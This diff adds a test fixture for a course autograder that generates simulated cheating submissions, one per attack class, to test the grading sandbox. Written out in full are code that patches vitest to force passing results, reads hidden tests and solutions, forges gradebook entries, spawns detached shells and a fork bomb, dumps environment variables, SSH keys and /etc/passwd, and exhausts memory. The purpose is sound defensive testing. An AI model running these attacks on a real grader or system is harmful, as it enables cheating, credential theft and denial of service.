@@ -1,0 +1,142 @@
+/**
+ * Dishonest submissions of notebook 01, one per attack class, built at test time against this
+ * machine's real paths (a student has the kit's full source and can guess the rest). Each one
+ * implements nothing: every exported function throws what the attack gathered ("LOOT ..."), so
+ * anything it could read would reach the feedback, and any point above what a submission that
+ * only throws scores (the "thrower": the tests that ask for an error) is a point stolen.
+ */
+import * as fs from "node:fs";
+import * as path from "node:path";
+
+/** What the attacks aim at: the instructor's files and secrets. */
+export interface Targets {
+  course: string;
+  out: string;
+  kit: string;
+  secretFile: string;
+  listenPort: number;
+  marker: string;
+}
+
+const EXPORTS = [
+  "centralDifference",
+  "sigmoidDerivative",
+  "numericalGradient",
+  "relativeError",
+  "logisticLossAndGradient",
+  "reverseModeGradient",
+];
+
+function module(
+  t: Targets,
+  body: string,
+  exportsBody = "throw new Error(`LOOT ${loot}`);",
+): string {
+  return `/* eslint-disable */
+import * as fs from "node:fs";
+import * as path from "node:path";
+const T = ${JSON.stringify(t)};
+let loot = "";
+function grab(what: string, f: () => unknown): void {
+  try {
+    loot += " " + what + "=" + String(f()).slice(0, 3000);
+  } catch (e) {
+    loot += " " + what + ":" + String((e as Error).message).slice(0, 60);
+  }
+}
+${body}
+${EXPORTS.map((e) => `export function ${e}(..._a: unknown[]): any { ${exportsBody.replace(/__NAME__/g, e)} }`).join("\n")}
+`;
+}
+
+/** name -> source of exercises/01-derivatives.ts */
+export function attackSources(t: Targets): Record<string, string> {
+  const sol = path.join(t.course, "solutions", "01-derivatives.ts");
+  const hidden = path.join(t.kit, "test/grading/hidden/01-derivatives.grading.ts");
+  const w = (file: string, text: string) =>
+    `grab("write ${path.basename(file)}", () => fs.appendFileSync(${JSON.stringify(file)}, ${JSON.stringify(text)}));`;
+  return {
+    hook: module(
+      t,
+      `grab("hook", () => { const v = require("vitest"); v.afterEach((ctx: any) => { ctx.task.result = { state: "pass" }; }); return "registered"; });
+grab("runner", () => { const r = require("@vitest/runner"); return typeof r.getCurrentTest(); });`,
+    ),
+    rpc: module(
+      t,
+      `grab("rpc", () => { const w = (globalThis as any).__vitest_worker__; w.rpc.onTaskUpdate = async () => undefined; return "patched"; });`,
+    ),
+    solutions: module(
+      t,
+      `grab("solution", () => fs.readFileSync(${JSON.stringify(sol)}, "utf8"));
+grab("via node_modules", () => fs.readFileSync(path.join(require.resolve("seedrandom"), "../../../solutions/01-derivatives.ts"), "utf8"));
+grab("kit solution", () => fs.readFileSync(${JSON.stringify(path.join(t.kit, "solutions/01-derivatives.ts"))}, "utf8"));
+let real: any = null;
+try { real = require(${JSON.stringify(sol)}); } catch {}`,
+      "if (real) return real.__NAME__(..._a); throw new Error(`LOOT ${loot}`);",
+    ),
+    hidden: module(
+      t,
+      `grab("hidden", () => fs.readFileSync(${JSON.stringify(hidden)}, "utf8"));
+grab("kit listing", () => fs.readdirSync(${JSON.stringify(t.kit)}, { recursive: true }).join(","));`,
+    ),
+    writes: module(
+      t,
+      [
+        w(path.join(t.out, "overrides.csv"), "writes,total,999,forged\n"),
+        w(path.join(t.out, "gradebook.csv"), "writes,999\n"),
+        w(path.join(t.kit, "test/grading/harness/checks.ts"), "\nexport const owned = 1;\n"),
+        w(path.join(t.course, "node_modules/seedrandom/index.js"), "\n// owned\n"),
+        w(path.join(t.out, "results/honest.json"), " "),
+      ].join("\n"),
+    ),
+    background: module(
+      t,
+      `const cp = require("node:child_process");
+grab("spawn", () => cp.spawn("/bin/sh", ["-c", "sleep 3; echo owned >> " + ${JSON.stringify(path.join(t.out, "gradebook.csv"))} + "; sleep 60 # " + T.marker], { detached: true, stdio: "ignore" }).unref());
+grab("exec", () => cp.execSync("id").toString());
+grab("worker", () => new (require("node:worker_threads").Worker)("setInterval(() => {}, 1000)", { eval: true }));`,
+    ),
+    forkbomb: module(
+      t,
+      `const cp = require("node:child_process");
+grab("fork", () => { for (let i = 0; i < 50; i++) cp.spawn(process.execPath, ["-e", "for(;;){} // " + T.marker], { detached: true, stdio: "ignore" }).unref(); return "forked"; });`,
+    ),
+    exfiltrate: module(
+      t,
+      `grab("env", () => JSON.stringify(process.env));
+grab("ssh", () => fs.readFileSync(${JSON.stringify(t.secretFile)}, "utf8"));
+grab("passwd", () => fs.readFileSync("/etc/passwd", "utf8"));
+grab("home", () => fs.readdirSync(require("node:os").homedir()).join(","));`,
+    ),
+    network: module(
+      t,
+      `const net = require("node:net");
+grab("connect", () => { const s = net.connect(T.listenPort, "127.0.0.1", () => s.end("owned " + T.marker)); s.on("error", () => undefined); return "connecting"; });
+grab("dns", () => { require("node:dns").lookup("localhost", () => undefined); return "asked"; });`,
+    ),
+    memory: module(
+      t,
+      `const keep: Buffer[] = [];
+for (let i = 0; i < 30; i++) { const b = Buffer.alloc(100 * 2 ** 20); b.fill(1); keep.push(b); }
+loot += " allocated " + keep.length * 100 + " MiB";`,
+    ),
+    loop: module(t, 'for (;;) { loot += ""; }'),
+    promise: module(t, "", "return new Promise(() => undefined);"),
+  };
+}
+
+/** Write each attack as a submission folder of `dir`; also an honest one and an untouched stub. */
+export function writeAttacks(dir: string, t: Targets): string[] {
+  const write = (student: string, text: string) => {
+    const file = path.join(dir, student, "exercises", "01-derivatives.ts");
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    fs.writeFileSync(file, text);
+  };
+  const sources = attackSources(t);
+  for (const [name, text] of Object.entries(sources)) write(name, text);
+  write("honest", fs.readFileSync(path.join(t.course, "solutions/01-derivatives.ts"), "utf8"));
+  write("stub", fs.readFileSync(path.join(t.course, "exercises/01-derivatives.ts"), "utf8"));
+  // the baseline an attack is measured against: honest, implements nothing, throws everywhere
+  write("thrower", module(t, ""));
+  return Object.keys(sources);
+}
